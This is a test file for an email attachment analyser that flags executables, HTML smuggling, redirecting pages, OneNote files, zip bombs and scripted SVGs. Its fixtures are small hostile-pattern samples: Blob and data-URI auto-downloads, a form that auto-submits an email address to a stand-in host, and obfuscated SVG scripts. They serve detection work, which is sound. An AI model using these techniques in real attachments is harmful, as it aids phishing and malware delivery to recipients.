import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { readReport } from '../message.js';
import { attachments } from './attachments.js';
import { context, message, zip } from './fixture.js';

const codes = async (files: { filename: string; contentType?: string; content: Buffer }[], ctx = context()) =>
  (
    await attachments.analyse(
      await message({ attachments: files.map((f) => ({ contentType: 'application/octet-stream', ...f })) }),
      ctx,
    )
  ).map((s) => s.code);

describe('the attachments analyser', () => {
  it('names programs, double extensions, disk images, shortcuts and macro documents', async () => {
    expect(await codes([{ filename: 'setup.exe', content: Buffer.from('MZ..') }])).toEqual(['executable']);
    expect(await codes([{ filename: 'invoice.pdf.js', content: Buffer.from('x') }])).toEqual([
      'double-extension',
    ]);
    expect(await codes([{ filename: 'scan.iso', content: Buffer.from('x') }])).toEqual([
      'disk-image-or-shortcut',
    ]);
    expect(await codes([{ filename: 'Invoice.lnk', content: Buffer.from('x') }])).toEqual([
      'disk-image-or-shortcut',
    ]);
    expect(await codes([{ filename: 'budget.xlsm', content: Buffer.from('x') }])).toEqual(['office-macro']);
    // a shortcut to a web page is a link in a file; one to a file share runs what it points at
    const shortcut = (url: string) => Buffer.from(`[InternetShortcut]\r\nURL=${url}\r\n`);
    expect(
      await codes([{ filename: 'Article.url', content: shortcut('http://www.example.org/a.html') }]),
    ).toEqual(['web-shortcut']);
    expect(
      await codes([{ filename: 'Invoice.url', content: shortcut('file://203.0.113.7/share/invoice.vbs') }]),
    ).toEqual(['disk-image-or-shortcut']);
    expect(await codes([{ filename: 'photo.jpg', content: Buffer.from('MZ\x90\x00') }])).toEqual([
      'disguised-executable',
    ]);
    expect(await codes([{ filename: 'report.pdf', content: Buffer.from('%PDF-1.7') }])).toEqual([]);
  });

  it('names an archive it cannot open, weighing it below a program, and a zip not at all', async () => {
    const [rar] = await attachments.analyse(
      await message({
        attachments: [
          {
            filename: 'RFQ_59628.rar',
            contentType: 'application/x-rar-compressed',
            content: Buffer.from('Rar!\x1a\x07\x00'),
          },
        ],
      }),
      context(),
    );
    expect(rar).toMatchObject({ code: 'sealed-archive', weight: 20 });
    expect(rar.explanation).toContain('.rar archive');
    expect(await codes([{ filename: 'drawings.7z', content: Buffer.from("7z\xbc\xaf'\x1c") }])).toEqual([
      'sealed-archive',
    ]);
    expect(
      await codes([{ filename: 'photos.zip', content: zip([{ name: 'a.jpg', content: Buffer.from('x') }]) }]),
    ).toEqual([]);
  });

  it('looks inside archives, nested ones too, and keeps each hash', async () => {
    const inner = zip([{ name: 'payload.vbs', content: Buffer.from('WScript.Echo 1') }]);
    const outer = zip([
      { name: 'readme.txt', content: Buffer.from('hello') },
      { name: 'more.zip', content: inner },
    ]);
    const found = await attachments.analyse(
      await message({
        attachments: [{ filename: 'docs.zip', contentType: 'application/zip', content: outer }],
      }),
      context(),
    );
    expect(found.map((s) => s.code)).toEqual(['executable']);
    expect(found[0].explanation).toContain('docs.zip holds more.zip/payload.vbs');
    expect(found[0].evidence).toMatch(/docs\.zip sha256:[0-9a-f]{64}/);
  });

  it('names a zip bomb without expanding it', async () => {
    const bomb = zip([{ name: 'zeros.bin', content: Buffer.alloc(20 * 1024 ** 2) }]);
    expect(bomb.length).toBeLessThan(100_000);
    expect(await codes([{ filename: 'big.zip', contentType: 'application/zip', content: bomb }])).toEqual([
      'zip-bomb',
    ]);
  });

  it('finds HTML that builds a file in the browser', async () => {
    const page =
      '<script>const b = new Blob([atob("TVqQ")]); const a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "invoice.exe"; a.click();</script>';
    expect(
      await codes([{ filename: 'invoice.html', contentType: 'text/html', content: Buffer.from(page) }]),
    ).toEqual(['html-smuggling']);
  });

  it('names a page that sets a link to a file in a data: address and saves it, not a page that shows a picture', async () => {
    const page = (script: string) => ({
      filename: 'Invoice_7.htm',
      contentType: 'text/html',
      content: Buffer.from(`<p>Downloading…</p><script>${script}</script>`),
    });
    const save =
      "var a=document.createElement('a');a.download='Invoice_7.zip';a.href='data:application/zip;base64,'+d;a.click();";
    expect(await codes([page(save)])).toEqual(['html-smuggling']);
    const picture =
      "var i=document.createElement('img');i.src='data:image/png;base64,'+d;document.body.appendChild(i);";
    expect(await codes([page(picture)])).toEqual([]);
  });

  it('names an attached page that sends the browser elsewhere when opened', async () => {
    const page = (script: string) => ({
      filename: 'INV-7.htm',
      contentType: 'text/html',
      content: Buffer.from(script),
    });
    expect(await codes([page('<script>window.location.href = atob("aHR0cHM6Ly9ldmls")</script>')])).toEqual([
      'html-redirect',
    ]);
    expect(await codes([page('<meta http-equiv="refresh" content="0;url=https://evil.example/">')])).toEqual([
      'html-redirect',
    ]);
    expect(
      await codes([
        page(
          '<body onload="document.forms[0].submit()"><form action="https://listen.example/v/"><input type="hidden" name="u" value="ann@corp.example"></form></body>',
        ),
      ]),
    ).toEqual(['html-redirect']);
    expect(await codes([page('<p>Invoice 7: 120 EUR, due in 30 days.</p>')])).toEqual([]);
  });

  it('names the file types that replaced macros, by name, inside archives, and OneNote by its content', async () => {
    expect(await codes([{ filename: 'Invoice.one', content: Buffer.from('x') }])).toEqual([
      'active-file-type',
    ]);
    expect(await codes([{ filename: 'help.chm', content: Buffer.from('x') }])).toEqual(['active-file-type']);
    expect(await codes([{ filename: 'connect.rdp', content: Buffer.from('x') }])).toEqual([
      'active-file-type',
    ]);
    const oneNote = Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64)]);
    expect(await codes([{ filename: 'scan.pdf', content: oneNote }])).toEqual(['active-file-type']);
    const archived = zip([{ name: 'Remittance.onepkg', content: Buffer.from('x') }]);
    const [inside] = await attachments.analyse(
      await message({
        attachments: [{ filename: 'files.zip', contentType: 'application/zip', content: archived }],
      }),
      context(),
    );
    expect(inside.code).toBe('active-file-type');
    expect(inside.explanation).toContain('files.zip holds Remittance.onepkg, which is a OneNote notebook');
    expect(await codes([{ filename: 'minutes.docx', content: Buffer.from('x') }])).toEqual([]);
  });

  it('opens a message attached to the message and names what it carries', async () => {
    const reply = await message({
      attachments: [
        { filename: 'Q3 figures.one', contentType: 'application/octet-stream', content: Buffer.from('x') },
      ],
    });
    const forwarded = await message({
      attachments: [{ filename: 'RE_ Q3.eml', contentType: 'message/rfc822', content: reply.raw }],
    });
    const found = await attachments.analyse(forwarded, context());
    expect(found.map((s) => s.code)).toEqual(['active-file-type']);
    expect(found[0].explanation).toContain('Q3 figures.one, in the attached message "Test",');
    const harmless = await message({
      attachments: [
        { filename: 'RE_ Q3.eml', contentType: 'message/rfc822', content: (await message({})).raw },
      ],
    });
    expect(await attachments.analyse(harmless, context())).toEqual([]);
  });

  it('stops opening attached messages a few levels deep, and says so', async () => {
    let raw = (
      await message({
        attachments: [{ filename: 'x.hta', contentType: 'text/plain', content: Buffer.from('x') }],
      })
    ).raw;
    for (let i = 0; i < 5; i += 1) {
      raw = (
        await message({
          attachments: [{ filename: `m${i}.eml`, contentType: 'message/rfc822', content: raw }],
        })
      ).raw;
    }
    const ctx = context();
    const report = await readReport(raw, true, { maxParts: 500 });
    expect(await attachments.analyse(report.reported, ctx)).toEqual([]);
    expect(ctx.gaps.join(' ')).toContain('attached more than 3 deep');
  });

  it('names an SVG picture that carries a script, an embedded page or javascript: links', async () => {
    const svg = (body: string) => ({
      filename: 'Voice_Message.svg',
      contentType: 'image/svg+xml',
      content: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${body}</svg>`),
    });
    const found = await attachments.analyse(
      await message({ attachments: [svg('<script>fetch("https://x.example/")</script>')] }),
      context(),
    );
    expect(found.map((s) => s.code)).toEqual(['svg-active-content']);
    expect(found[0].explanation).toContain('holds a script');
    expect(
      await codes([
        svg('<foreignObject><form><input name="email"/><button>Sign in</button></form></foreignObject>'),
      ]),
    ).toEqual(['svg-active-content']);
    expect(await codes([svg('<a href="javascript:go()"><rect/></a>')])).toEqual(['svg-active-content']);
    expect(await codes([svg('<rect onload="go()" width="1" height="1"/>')])).toEqual(['svg-active-content']);
    expect(await codes([svg('<a href="data:text/html;base64,PGZvcm0+"><rect/></a>')])).toEqual([
      'svg-active-content',
    ]);
    expect(
      await codes([svg('<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>')]),
    ).toEqual([]);
    expect(
      await codes([svg('<circle cx="5" cy="5" r="4" fill="#0067b8"/><text x="1" y="9">logo</text>')]),
    ).toEqual([]);
  });

  it('reads SVG pictures that hide what they do: prefixed elements, encoded addresses, gzip, another name', async () => {
    const svg = (body: string) =>
      `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg">${body}</svg>`;
    expect(
      await codes([{ filename: 'Fax.svg', content: Buffer.from(svg('<svg:script>go()</svg:script>')) }]),
    ).toEqual(['svg-active-content']);
    expect(
      await codes([
        {
          filename: 'Fax.svg',
          content: Buffer.from(svg('<a href="&#106;ava&Tab;script&colon;go()"><rect/></a>')),
        },
      ]),
    ).toEqual(['svg-active-content']);
    expect(await codes([{ filename: 'Fax.svg', content: Buffer.from(svg('<g/onload="go()"/>')) }])).toEqual([
      'svg-active-content',
    ]);
    expect(
      await codes([{ filename: 'Fax.svgz', content: gzipSync(Buffer.from(svg('<script>go()</script>'))) }]),
    ).toEqual(['svg-active-content']);
    expect(
      await codes([{ filename: 'Remittance.pdf', content: Buffer.from(svg('<script>go()</script>')) }]),
    ).toEqual(['svg-active-content']);
  });

  it('names an SVG picture that runs code it decodes first', async () => {
    const found = await codes([
      {
        filename: 'Play_Voicemail.svg',
        contentType: 'image/svg+xml',
        content: Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[var k=[104,105];eval(String.fromCharCode.apply(null,k))]]></script></svg>',
        ),
      },
    ]);
    expect(found).toEqual(['svg-active-content', 'hidden-script']);
  });

  it('reads the page an SVG carries encoded in a data: address, and names written in escapes', async () => {
    const inner = Buffer.from('<script>location.href="https://collect.example/"</script>').toString('base64');
    expect(
      await codes([
        {
          filename: 'Invoice.svg',
          contentType: 'image/svg+xml',
          content: Buffer.from(
            `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="data:text/html;base64,${inner}"/></foreignObject></svg>`,
          ),
        },
      ]),
    ).toEqual(['svg-active-content', 'html-redirect']);
    expect(
      await codes([
        {
          filename: 'Invoice.svg',
          contentType: 'image/svg+xml',
          content: Buffer.from(
            '<svg xmlns="http://www.w3.org/2000/svg"><script>window["\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"]="https://collect.example/"</script></svg>',
          ),
        },
      ]),
    ).toEqual(['svg-active-content', 'html-redirect']);
  });

  it('names an SVG picture that is a link to a site the sender does not own, and judges the link', async () => {
    const clickable = (href: string) => ({
      filename: 'Voice_Message_0042.svg',
      contentType: 'image/svg+xml',
      content: Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="120"><a xlink:href="${href}"><rect width="400" height="120" fill="#1a73e8"/><text x="20" y="60" fill="#fff">Play voice message (0:42)</text></a></svg>`,
      ),
    });
    const found = await attachments.analyse(
      await message({
        from: 'Voicemail <vm@pbx-cloud.example>',
        attachments: [clickable('https://203.0.113.9/vm/listen?id=42')],
      }),
      context(),
    );
    expect(found.map((s) => s.code)).toEqual(['svg-link', 'ip-literal']);
    expect(found[0].explanation).toContain('a link to 203.0.113.9, a site the sender does not own');
    const own = await attachments.analyse(
      await message({
        from: 'Design <studio@pbx-cloud.example>',
        attachments: [clickable('https://www.pbx-cloud.example/brand')],
      }),
      context(),
    );
    expect(own).toEqual([]);
  });

  it('says nothing of SVG pictures drawn by design and diagram tools', async () => {
    const illustrator =
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:i="&ns_ai;"><switch><foreignObject requiredExtensions="&ns_ai;" x="0" y="0" width="1" height="1"><i:pgfRef xlink:href="#adobe_illustrator_pgf"></i:pgfRef></foreignObject><g i:extraneous="self"><path d="M0 0h10v10z" fill="#e30613"/></g></switch></svg>';
    const diagram =
      '<svg xmlns="http://www.w3.org/2000/svg"><rect x="1" y="1" width="120" height="60" fill="#dae8fc"/><foreignObject x="1" y="1" width="120" height="60"><div xmlns="http://www.w3.org/1999/xhtml" style="display:flex"><div>Load balancer</div></div></foreignObject><text x="4" y="30">Load balancer</text></svg>';
    const logo =
      '<?xml version="1.0" encoding="UTF-8"?><!-- Generator: Inkscape --><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><title>Online shop</title><path d="M2 2h60v60H2z" fill="#333"/></svg>';
    for (const content of [illustrator, diagram, logo])
      expect(
        await codes([{ filename: 'logo.svg', contentType: 'image/svg+xml', content: Buffer.from(content) }]),
      ).toEqual([]);
  });

  it('names an attached page that decodes hidden markup into itself, not one with an ordinary script', async () => {
    const page = (script: string) => ({
      filename: 'Remittance.html',
      contentType: 'text/html',
      content: Buffer.from(script),
    });
    expect(await codes([page('<script>document.write(atob("PGgxPlNpZ24gaW48L2gxPg=="))</script>')])).toEqual([
      'hidden-page',
    ]);
    expect(await codes([page('<script>document.body.innerHTML = unescape("%3Cform%3E")</script>')])).toEqual([
      'hidden-page',
    ]);
    expect(
      await codes([page(`<script>var d=window['at'+'ob'](p.join(''));document['wr'+'ite'](d);</script>`)]),
    ).toEqual(['hidden-page']);
    expect(
      await codes([page('<p>Paid on <script>document.write(new Date().toDateString())</script></p>')]),
    ).toEqual([]);
  });
});
